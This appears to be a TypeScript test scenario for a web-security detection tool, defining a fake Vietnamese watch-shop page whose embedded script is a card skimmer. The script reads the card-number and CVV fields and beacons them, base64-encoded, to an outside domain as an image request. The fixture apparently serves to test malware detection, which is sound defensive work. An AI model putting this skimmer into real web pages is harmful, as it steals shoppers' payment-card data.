/** A skimmer beside a shop’s payment form. */
import { defineScenario } from '../../scenario.ts';
import { filling, sitePage } from '../../web/site-page.ts';

export default defineScenario(542, () => ({
  about: 'A script reads the card fields and sends them to another domain.',
  witness: ['A8-malware'],
  domains: [
    {
      name: 'laycapthe.vn',
      web: {
        pages: {
          '/': sitePage({
            title: 'Cửa hàng đồng hồ Tân Tiến',
            main: `${filling}
    <form method="post" action="/tra-tien"><input name="sotien"></form>
    <script>
      document.addEventListener('change', function () {
        var d = { n: document.querySelector('#card-number').value, c: document.querySelector('#cvv').value };
        new Image().src = 'https://thong-ke-web.net/p.gif?d=' + btoa(JSON.stringify(d));
      });
    </script>`,
          }),
        },
      },
    },
  ],
}));
